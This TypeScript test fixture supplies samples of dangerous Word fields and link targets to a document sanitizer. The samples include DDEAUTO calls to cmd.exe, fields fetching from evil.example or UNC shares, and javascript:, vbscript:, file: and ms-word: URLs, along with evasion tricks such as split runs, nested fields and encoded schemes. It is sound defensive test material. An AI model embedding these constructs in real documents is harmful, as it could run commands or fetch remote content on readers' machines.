import { activeField, code, field, link, mark, text } from './hostile-markup.fixture.ts'
import type { HostileConstruct } from './hostile-markup.fixture.ts'

/**
 * Samples of Word fields and links that fetch or run something, such as "DDE cmd.exe". Tests expect that composing
 * turns them into plain text.
 */
export const HOSTILE_FIELDS: HostileConstruct[] = [
  ...[
    'DDE cmd.exe "/c calc" x',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    'LINK Excel.Sheet.12 "C:\\\\x.xlsx" "A1" \\a \\f 0 \\p',
    'INCLUDEPICTURE "http://evil.example/x.png" \\d',
    'INCLUDETEXT "\\\\\\\\evil\\\\share\\\\x.docx"',
    'IMPORT "http://evil.example/y.png"',
    'DATABASE \\d "C:\\\\x.mdb" \\c "DSN=x"',
    'RD "http://evil.example/z.docx"',
    'AUTOTEXT secret',
    'AUTOTEXTLIST "x"',
    'MACROBUTTON Run "click"',
    'PRINT 27&amp;l',
    'HYPERLINK "javascript:alert(1)"',
    'dDeAuTo cmd x',
  ].map(activeField),
  {
    name: 'instruction split over runs',
    inline: field(code(' DD') + code('EAU') + code('TO cmd x '), 'result of the split'),
    shown: 'result of the split',
  },
  {
    name: 'instruction split over paragraphs',
    block: `<w:p>${mark('begin')}${code(' INCLUDE')}</w:p><w:p>${code('TEXT "http://evil.example/a" ')}${mark('separate')}${text('first line of it')}</w:p><w:p>${text('last line of it')}${mark('end')}</w:p>`,
    shown: 'last line of it',
  },
  {
    name: 'simple field',
    inline: `<w:fldSimple w:instr=" DDEAUTO cmd x ">${text('result of the simple one')}</w:fldSimple>`,
    shown: 'result of the simple one',
  },
  {
    name: 'active field in the instruction of another',
    inline: field(
      code(' IF 1 = 1 ') + field(code(' DDEAUTO cmd x '), 'inner') + code(' "no" '),
      'result of IF',
    ),
    shown: 'result of IF',
  },
  {
    name: 'active field in the result of another',
    inline: `${mark('begin')}${code(' QUOTE x ')}${mark('separate')}${field(code(' DDEAUTO cmd x '), 'nested result')}${mark('end')}`,
    shown: 'nested result',
  },
  {
    name: 'active field around another',
    inline: `${mark('begin')}${code(' INCLUDETEXT "http://evil.example" ')}${mark('separate')}${field(code(' PAGE '), 'page 7')}${mark('end')}`,
    shown: 'page 7',
  },
  {
    name: 'keyword made by a field',
    inline: field(field(code(' QUOTE "DDEAUTO" '), 'DDEAUTO') + code(' cmd x '), 'result of the made one'),
    shown: 'result of the made one',
  },
  {
    name: 'address made by a field',
    inline: field(
      `${code(' HYPERLINK "')}${field(code(' DOCVARIABLE x '), 'file:///c:/x')}${code('" ')}`,
      'words of the made link',
    ),
    shown: 'words of the made link',
  },
  {
    name: 'instruction written as text',
    inline: `${mark('begin')}${text(' DDEAUTO cmd x ')}${mark('separate')}${text('result of text')}${mark('end')}`,
    shown: 'result of text',
  },
  {
    name: 'instruction behind deleted letters',
    inline: `${mark('begin')}<w:del w:id="9" w:author="a"><w:r><w:delInstrText>X</w:delInstrText></w:r></w:del>${code('DDEAUTO cmd x')}${mark('separate')}${text('result of deleting')}${mark('end')}`,
    shown: 'result of deleting',
  },
  {
    name: 'field without a result',
    inline: `${mark('begin')}${code(' DDE cmd x ')}${mark('end')}${text('beside it')}`,
    shown: 'beside it',
  },
  ...(
    [
      ['javascript', 'javascript:alert(1)'],
      ['JaVaScRiPt', 'JaVaScRiPt:alert(1)'],
      ['encoded javascript', 'java%73cript:alert(1)'],
      ['entity', '&amp;#106;avascript:alert(1)'],
      ['tab', 'java&#9;script:alert(1)'],
      ['vbscript', 'vbscript:msgbox(1)'],
      ['file', 'file:///C:/Windows/x.exe'],
      ['UNC', '\\\\evil\\share\\x'],
      ['slashes', '//evil/share/x'],
      ['mhtml', 'mhtml:http://evil.example/x!y'],
      ['data', 'data:text/html;base64,AAAA'],
      ['ms-office', 'ms-word:ofe|u|http://evil.example/x.docm'],
      ['search-ms', 'search-ms:query=x'],
      ['relative path', 'annex/x.exe'],
      ['ftp', 'ftp://evil.example/x'],
      ['attaching mail', 'mailto:a@b.example?attach=C:/x'],
    ] as const
  ).map(([name, target]) => link(name, target)),
]
